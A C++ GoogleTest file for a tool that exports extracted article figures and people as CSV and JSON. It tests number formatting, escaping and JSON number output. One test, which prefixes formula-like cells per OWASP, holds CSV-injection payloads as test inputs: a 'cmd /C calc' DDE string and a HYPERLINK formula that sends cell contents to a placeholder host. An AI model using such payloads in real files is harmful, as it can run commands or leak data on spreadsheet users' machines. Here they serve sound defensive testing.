// export_test.cpp: "Export view" rows: header per kind, fields, normalised values, CSV and JSON output.
#include "core/export.h"
#include "core/json.h"

#include <cstdio>
#include <cstdlib>

#include <gtest/gtest.h>

namespace ae {
namespace {

Corpus one_figure_corpus() {
  Corpus c;
  ArticleRecord a;
  a.id = "a-00000000000000aa";
  a.title = "T";
  a.paragraphs = {"Trade reached $2.1 billion, \"a record\"."};
  FigureRecord f;
  f.id = "f-2-1-billion";
  f.text = "$2.1 billion";
  f.value = 2.1e9;
  f.unit = "USD";
  f.kind = FigureKind::money;
  f.subject = "trade, \"record\"";
  f.evidence = {0, {0, 39}, {14, 26}};
  a.figures = {f};
  c.add(a);
  return c;
}

TEST(Export, FormatsNormalisedValues) {
  EXPECT_EQ(format_value(2.1e9, "USD", FigureKind::money), "2.1 bn USD");
  EXPECT_EQ(format_value(31.23e9, "USD", FigureKind::money), "31.23 bn USD");
  EXPECT_EQ(format_value(5e8, "EUR", FigureKind::money), "500 m EUR");
  EXPECT_EQ(format_value(3.5e12, "USD", FigureKind::money), "3.5 tn USD");
  EXPECT_EQ(format_value(57, "%", FigureKind::percent), "57 %");
  EXPECT_EQ(format_value(18.5, "%", FigureKind::percent), "18.5 %");
  EXPECT_EQ(format_value(1100, "mi", FigureKind::measure), "1,100 mi");
  EXPECT_EQ(format_value(1234567, "citizens", FigureKind::count), "1,234,567 citizens");
  EXPECT_EQ(format_value(600, "", FigureKind::count), "600");
}

TEST(Export, CsvHasHeaderAndEscapedFields) {
  Corpus c = one_figure_corpus();
  EXPECT_EQ(export_csv(c, ItemKind::figure, {0}),
            "article,id,text,value,unit,kind,qualifier,subject,normalised,article_title,sentence\r\n"
            "a-00000000000000aa,f-2-1-billion,$2.1 billion,2100000000,USD,money,,\"trade, \"\"record\"\"\",2.1 bn USD,T,"
            "\"Trade reached $2.1 billion, \"\"a record\"\".\"\r\n");
  EXPECT_EQ(export_csv(c, ItemKind::figure, {}),
            "article,id,text,value,unit,kind,qualifier,subject,normalised,article_title,sentence\r\n");
}

TEST(Export, JsonKeepsValueNumericAndEscapesStrings) {
  Corpus c = one_figure_corpus();
  EXPECT_EQ(export_json(c, ItemKind::figure, {0}),
            "[\n{\"article\":\"a-00000000000000aa\",\"id\":\"f-2-1-billion\",\"text\":\"$2.1 billion\",\"value\":2100000000,"
            "\"unit\":\"USD\",\"kind\":\"money\",\"qualifier\":\"\",\"subject\":\"trade, \\\"record\\\"\","
            "\"normalised\":\"2.1 bn USD\",\"article_title\":\"T\","
            "\"sentence\":\"Trade reached $2.1 billion, \\\"a record\\\".\"}\n]\n");
  EXPECT_EQ(export_json(c, ItemKind::person, {}), "[]\n");
}

// Issue 17: cells a spreadsheet would run as a formula get a leading ' (OWASP); plain numbers stay numbers.
TEST(Export, CsvNeutralisesFormulaCells) {
  EXPECT_EQ(csv_safe_cell("=HYPERLINK(\"http://x.invalid/?\"&A1,\"Click\")"),
            "'=HYPERLINK(\"http://x.invalid/?\"&A1,\"Click\")");
  EXPECT_EQ(csv_safe_cell("+cmd|' /C calc'!A0"), "'+cmd|' /C calc'!A0");
  EXPECT_EQ(csv_safe_cell("@SUM(1+1)"), "'@SUM(1+1)");
  EXPECT_EQ(csv_safe_cell("-2+3+cmd|' /C calc'!A0"), "'-2+3+cmd|' /C calc'!A0");
  EXPECT_EQ(csv_safe_cell("\t=1+1"), "'\t=1+1");
  EXPECT_EQ(csv_safe_cell("\r=1+1"), "'\r=1+1");
  EXPECT_EQ(csv_safe_cell("-"), "'-");
  for (const char* number : {"-12.5", "-1e+21", "-0.000123", "-3"}) EXPECT_EQ(csv_safe_cell(number), number);
  for (const char* plain : {"", "Kassym-Jomart Tokayev", "a=b", "2.1 bn USD", "'quoted"})
    EXPECT_EQ(csv_safe_cell(plain), plain);

  Corpus c;
  ArticleRecord a;
  a.id = "a-00000000000000bb";
  a.title = "=Title";
  a.paragraphs = {"The minister @home spoke."};
  PersonRecord p;
  p.id = "p-x";
  p.name = "=HYPERLINK(\"http://x.invalid\",\"Click\")";
  p.role = "+cmd";
  p.affiliation = "-x";
  p.mentions = {{0, {0, 25}, {4, 12}}};
  a.people = {p};
  c.add(a);
  const std::string csv = export_csv(c, ItemKind::person, {0});
  EXPECT_EQ(csv.substr(csv.find("\r\n") + 2),
            "a-00000000000000bb,p-x,\"'=HYPERLINK(\"\"http://x.invalid\"\",\"\"Click\"\")\",'+cmd,'-x,1,'=Title,"
            "The minister @home spoke.\r\n");
  // JSON is data, not a spreadsheet: left as it is.
  EXPECT_NE(export_json(c, ItemKind::person, {0}).find("\"name\":\"=HYPERLINK("), std::string::npos);
}

TEST(Export, CsvByteOrderMarkIsAnOption) {
  Corpus c = one_figure_corpus();
  EXPECT_EQ(export_csv(c, ItemKind::figure, {}).substr(0, 7), "article");
  CsvOptions o;
  o.utf8_bom = true;
  EXPECT_EQ(export_csv(c, ItemKind::figure, {}, o).substr(0, 10), "\xEF\xBB\xBF" "article");
}

TEST(Export, ContextColumnsForEveryKind) {
  for (ItemKind k : {ItemKind::person, ItemKind::agreement, ItemKind::figure, ItemKind::photo}) {
    const auto h = export_header(k);
    ASSERT_GE(h.size(), 2u);
    EXPECT_EQ(h[h.size() - 2], "article_title");
    EXPECT_EQ(h.back(), "sentence");
  }
  Corpus c = one_figure_corpus();
  c.articles[0].paragraphs = {};  // a sharded article whose text is not loaded: no sentence, no crash
  const auto f = export_fields(c, ItemKind::figure, 0);
  EXPECT_EQ(f[f.size() - 2], "T");
  EXPECT_EQ(f.back(), "");
}

}  // namespace
}  // namespace ae

namespace ae {
namespace {

TEST(JsonNumber, ShortestFormReadsBackExactly) {
  auto fmt = [](double v) {
    std::string s;
    append_json_number(s, v);
    return s;
  };
  EXPECT_EQ(fmt(2.1e9), "2100000000");
  EXPECT_EQ(fmt(18.5), "18.5");
  EXPECT_EQ(fmt(0.1), "0.1");
  EXPECT_EQ(fmt(31.23e9), "31230000000");
  EXPECT_EQ(fmt(1e21), "1e+21");
  EXPECT_EQ(fmt(-0.000123), "-0.000123");
  for (double v : {0.1 + 0.2, 1.0 / 3, 123456789.123456789, 5e-324, 1.7976931348623157e308})
    EXPECT_EQ(std::strtod(fmt(v).c_str(), nullptr), v) << fmt(v);
  // Whole numbers take a shortcut below 1e15: the same bytes as the general "%.15g" form.
  auto general = [](double v) {
    char buf[40];
    std::snprintf(buf, sizeof buf, "%.15g", v);
    return std::string(buf);
  };
  for (double v : {0.0, 1.0, -1.0, 7.0, 600e6, -42e9, 999999999999999.0, 123456789012345.0, -999999999999999.0})
    EXPECT_EQ(fmt(v), general(v)) << v;
  EXPECT_EQ(fmt(-0.0), "-0");
  EXPECT_EQ(fmt(1e15), "1e+15");
  EXPECT_EQ(fmt(-1e15), "-1e+15");
  EXPECT_EQ(fmt(2.5), "2.5");
}

}  // namespace
}  // namespace ae
